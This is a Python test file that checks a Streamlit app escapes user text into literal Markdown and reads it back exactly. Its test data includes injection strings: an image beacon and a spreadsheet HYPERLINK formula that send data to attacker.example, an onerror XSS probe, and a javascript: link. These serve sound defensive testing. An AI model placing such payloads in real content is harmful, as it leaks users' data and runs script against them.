"""components.text: people's text becomes Markdown that Streamlit shows literally, and reads back exactly."""

from __future__ import annotations

import re

import pytest

from components.text import SPLIT, clip, code, literal, plain, task_href, unescape

LONG_WORD = "W" * 10_000

# The hostile corpus of issue 18 (also fed through every page by tests/app and tests/e2e test_hostile_text.py).
CORPUS = [
    "x ![t](http://attacker.example/p.png)",
    '=HYPERLINK("http://attacker.example/?"&A1,"details")',
    "<img src=x onerror=alert(1)>",
    r"$\frac{a}{b}$",
    ":red[x]",
    ":material/home:",
    "[a](javascript:alert(1))",
    "# heading",
    LONG_WORD,
]

J = SPLIT
# Exactly what each entry becomes: Markdown specials escaped, an empty span where a pattern is found after
# parsing (it adds no character: the page's text is the text typed).
EXPECTED = {
    "x ![t](http://attacker.example/p.png)": rf"x !\[t\](http\:{J}//attacker.example/p.png)",
    '=HYPERLINK("http://attacker.example/?"&A1,"details")':
        rf'\=HYPERLINK("http\:{J}//attacker.example/?"&A1,"details")',
    "<img src=x onerror=alert(1)>": r"\<img src=x onerror=alert(1)>",
    r"$\frac{a}{b}$": r"\$\\frac{a}{b}\$",
    "$$x^2$$": r"\$\$x^2\$\$",
    ":red[x]": rf"\:{J}red\[x\]",
    ":red-background[x] :rainbow[y]": rf"\:{J}red-background\[x\] \:{J}rainbow\[y\]",
    ":material/home:": rf"\:{J}material/home:",
    "[a](javascript:alert(1))": rf"\[a\](javascript\:{J}alert(1))",
    "# heading": r"\# heading",
    "## heading": r"\## heading",
    ":smile: :streamlit: :+1: :100:": rf"\:{J}smile: \:{J}streamlit: \:{J}+1: \:{J}100:",
    "www.attacker.example mail@attacker.example": f"www{J}.attacker.example mail@{J}attacker.example",
    "<http://attacker.example>": rf"\<http\:{J}//attacker.example>",
    "- item\n1. one\n> quote\n---": f"\\- item\\\n1\\. one\\\n\\> quote\\\n\\-{J}-{J}-",
    "+ a\n2) b\n===": "\\+ a\\\n2\\) b\\\n\\===",
    "    indented code": "&#32;&#32;&#32;&#32;indented code",
    "`code` ~~s~~ **b** _i_": r"\`code\` \~\~s\~\~ \*\*b\*\* \_i\_",
    "<b>&amp;</b> &#36; Q&A": r"\<b>\&amp;\</b> \&#36; Q&A",
    "| a | b |\n|---|---|": f"\\| a \\| b \\|\\\n\\|-{J}-{J}-\\|-{J}-{J}-\\|",
    # Streamlit shows these between spaces as arrows and dashes (→ ← ↔ — ≥ ≤ ≈): split, they stay as typed.
    "a -> b <- c <-> d -- e >= f <= g ~= h":
        rf"a -{J}> b \<{J}- c \<{J}-{J}> d -{J}- e >{J}= f \<{J}= g \~{J}= h",
    "-> x": rf"\-{J}> x",
    "a\\\nb": "a\\\\\\\nb",
    "[^1]: note": r"\[^1\]: note",
    # Ordinary sentences stay as typed: ", . ! ( ) ?" and ": " start nothing.
    "A fox, in the snow (at dusk)! Really? Yes: 3:2.": "A fox, in the snow (at dusk)! Really? Yes: 3:2.",
    "Write a prompt first: an empty prompt cannot be saved.":
        "Write a prompt first: an empty prompt cannot be saved.",
    LONG_WORD: LONG_WORD,
}


@pytest.mark.parametrize("text", CORPUS + list(EXPECTED))
def test_every_entry_is_escaped_exactly_and_reads_back(text):
    escaped = literal(text)
    assert escaped == EXPECTED.get(text, escaped)
    assert text in EXPECTED  # the whole corpus has its exact expected form
    assert unescape(escaped) == text


@pytest.mark.parametrize("text", list(EXPECTED))
def test_nothing_is_left_for_markdown_to_obey(text):
    """No construct survives: every '[', '$', '<', '`', '*', '_', '~', '|' is escaped, and every ':name' is broken."""
    escaped = literal(text)
    people_s = escaped.replace(SPLIT, "")  # the empty span is the escaping's own markup, the rest is theirs
    unescaped_specials = re.findall(r"(?<!\\)(?:\\\\)*([\[\]$<`*_~|])", people_s)
    assert unescaped_specials == []
    # No directive, icon, shortcode or URL scheme of the person's (the empty span is the escaping's own).
    assert not re.search(r"(?<!\\):[A-Za-z_/+-]", people_s)
    assert "](" not in escaped.replace(r"\](", "")
    assert ":material/" not in escaped  # Streamlit rewrites that text before it parses anything
    assert not re.search(r"(?m)^(?:[ \t]{0,3})(?:[#>+=-]|\d+[.)])", escaped)  # no block starts a line


def test_one_line_keeps_the_text_on_one_line():
    assert literal("# a\n- b", one_line=True) == r"\# a \- b"
    assert "\n" not in literal("a\nb\r\nc\rd", one_line=True)


def test_line_breaks_become_hard_breaks_and_trailing_ones_go():
    assert literal("a\r\nb\rc\n") == "a\\\nb\\\nc"


def test_a_persons_own_escapes_and_references_read_back():
    for text in ["\u2060 &#32; \\\\ \\:", "\\", "a\\", "&#8288;x", "  two\n\tthree", "\\\n", SPLIT, f"a{SPLIT}b"]:
        assert unescape(literal(text)) == text.rstrip("\n")


def test_clip_cuts_before_escaping():
    assert clip("abcdef", 4) == "abc…"
    assert literal("****", 3) == r"\*\*…"
    assert clip(None) == "" and literal(None) == ""


def test_code_picks_a_fence_longer_than_any_backtick_run():
    assert code("task_4o_abc") == "`task_4o_abc`"
    assert code("a`b") == "``a`b``"
    assert code("`x`") == "`` `x` ``"
    # A code span cannot carry these: the text is escaped instead.
    assert code(":material/home:") == literal(":material/home:")
    assert code("a\nb") == "a b"


def test_plain_is_one_line_and_unescaped():
    assert plain("**a**\n$b$", 20) == "**a** $b$"


def test_task_href_keeps_the_id_inside_the_link():
    assert task_href("a) [x](http://attacker.example/") == (
        "/history?task=a%29%20%5Bx%5D%28http%3A%2F%2Fattacker.example%2F")


def test_identity_puts_an_e_mail_in_a_code_span_and_escapes_a_name():
    from components.text import identity

    assert identity("alice@example.com") == "`alice@example.com`"
    assert identity("Alice :red[x]\n# B") == rf"Alice \:{J}red\[x\] # B"  # mid-line, "#" starts nothing
    assert identity("x ![t](http://attacker.example/p.png)@e.com") == "`x ![t](http://attacker.example/p.png)@e.com`"
